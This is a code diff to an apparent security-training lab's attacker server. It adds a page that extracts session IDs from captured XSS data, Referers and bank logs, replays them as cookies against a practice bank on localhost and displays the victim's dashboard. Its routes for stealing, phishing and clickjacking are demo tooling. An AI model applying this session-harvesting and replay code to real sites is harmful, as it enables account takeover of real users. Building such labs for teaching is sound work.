@@ -3,7 +3,8 @@
 // bank on localhost: the victim's SameSite=Strict cookie stays out of its forged requests unless
 // a flaw lets it in. It serves the pages the trainer's demos need and keeps, in memory, every
 // capture: what an XSS payload sent (/steal, /collect), a forged request it launched (/prize,
-// /forge), a Referer from the bank. The lab console's inbox reads them from GET /captures.
+// /forge), a Referer from the bank. The lab console's inbox reads them from GET /captures, and
+// Mallory's view (/view) opens the bank with any session ID they hold.
 import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
 import type { AddressInfo } from "node:net";
 import { CAPTURE_KINDS, type Capture } from "../lib/lab/captures";
@@ -63,6 +64,7 @@ async function route(request: Request): Promise<void> {
   if (path === "/forge") return forge(request, forgedFormFromQuery(url.searchParams));
   noteReferer(request);
   if (path === "/") return send(res, 200, "text/html", indexPage(site));
+  if (path === "/view") return send(res, 200, "text/html", await attackersView(site, url.searchParams.get("id")));
   if (path === "/hook.js") return send(res, 200, "text/javascript", hookScript(site));
   if (path === "/phish") return send(res, 200, "text/html", phishingPage());
   if (path === "/frame")
@@ -214,6 +216,72 @@ function framingPage(site: Site, path: string): string {
   );
 }
 
+// The bank's session cookie over plain HTTP (the lab's), and what a session ID looks like.
+const SESSION_COOKIE = "vaultline.session";
+const SESSION_ID = /(?:vaultline\.session=|[?&]sid=)([A-Za-z0-9_-]{43})/g;
+// How the bank's own log writes one (the token-in-logs demo): the line's "session" field.
+const LOGGED_ID = /"session":"([A-Za-z0-9_-]{43})"/g;
+
+/** Every session ID the captures hold (cookies, links' ?sid=, Referers), newest first, once each. */
+function stolenIds(site: Site): string[] {
+  const found = [...site.captures]
+    .reverse()
+    .flatMap((c) => [...Object.values(c.data), c.referer ?? ""])
+    .flatMap((text) => [...text.matchAll(SESSION_ID), ...text.matchAll(LOGGED_ID)].map((m) => m[1]!));
+  return [...new Set(found)];
+}
+
+/**
+ * The attacker's view: what Mallory sees with what she stole, without DevTools. Each ID the
+ * captures hold, or one pasted (from the bank's log, a leaked table), opens the bank's dashboard
+ * from this server as another client would, and the page shows what came back.
+ */
+async function attackersView(site: Site, pasted: string | null): Promise<string> {
+  const ids = stolenIds(site);
+  const tried = pasted?.trim() || null;
+  const list = ids.length
+    ? `<ul>${ids.map((id) => `<li><code>${escapeHtml(id.slice(0, 12))}…</code> <a href="/view?id=${encodeURIComponent(id)}">Open the bank with it</a></li>`).join("")}</ul>`
+    : "<p>No session ID captured yet.</p>";
+  const form = `<form method="GET" action="/view"><label>A session ID from elsewhere (a log line, a leaked table) <input name="id" size="50"></label> <button>Open the bank with it</button></form>`;
+  const result = tried
+    ? `<section aria-label="What the bank showed Mallory">${await bankAs(site, tried)}</section>`
+    : "";
+  return page("Mallory's view", `<h1>Mallory's view</h1><p>Session IDs the captures hold:</p>${list}${form}${result}`);
+}
+
+/** Opens the bank's dashboard with `id` as the session cookie and says what came back. */
+async function bankAs(site: Site, id: string): Promise<string> {
+  const response = await fetch(`${site.bankUrl}/dashboard`, {
+    headers: { Cookie: `${SESSION_COOKIE}=${id}`, "User-Agent": "Mallory's browser (the lab's attacker site)" },
+    redirect: "manual",
+    signal: AbortSignal.timeout(5000),
+  }).catch(() => null);
+  if (!response) return "<p><strong>The bank did not answer.</strong></p>";
+  if (response.status >= 300 && response.status < 400)
+    return "<p><strong>Refused:</strong> the bank sent Mallory to sign in. The stolen ID opens nothing.</p>";
+  if (!response.ok) return `<p><strong>The bank answered ${response.status}.</strong></p>`;
+  const text = pageText(await response.text());
+  return `<p><strong>In as the victim:</strong> the bank's dashboard, as Mallory sees it.</p><pre>${escapeHtml(text)}</pre>`;
+}
+
+/** A page's main content as plain text: a line per block, the markup gone. */
+function pageText(html: string): string {
+  const main = /<main[\s\S]*?<\/main>/.exec(html)?.[0] ?? html;
+  return main
+    .replace(/<(script|style)[\s\S]*?<\/\1>/g, "")
+    .replace(/<\/(p|h\d|li|tr|div|section|dt|dd)>|<br\s*\/?>/g, "\n")
+    .replace(/<[^>]*>/g, " ")
+    .replace(/&amp;/g, "&")
+    .replace(/&lt;/g, "<")
+    .replace(/&gt;/g, ">")
+    .replace(/&quot;/g, '"')
+    .replace(/&#x27;|&#39;/g, "'")
+    .split("\n")
+    .map((line) => line.replace(/\s+/g, " ").trim())
+    .filter(Boolean)
+    .join("\n");
+}
+
 function indexPage(site: Site): string {
   const links: [string, string][] = [
     ["/prize", "forged sign-out: a form that posts to the bank's /signout as it loads"],
@@ -225,6 +293,7 @@ function indexPage(site: Site): string {
     ["/steal?c=…", "records its parameters (an <img> or fetch from a payload)"],
     ["/phish", "a look-alike sign-in page whose form posts to /collect (the open-redirect demo)"],
     ["/frame?path=/dashboard", "the bank framed under a decoy (the clickjacking demo)"],
+    ["/view", "Mallory's view: opens the bank with a stolen session ID and shows what she sees"],
   ];
   const payload = `<script src="${site.url}/hook.js"></script>`;
   return page(
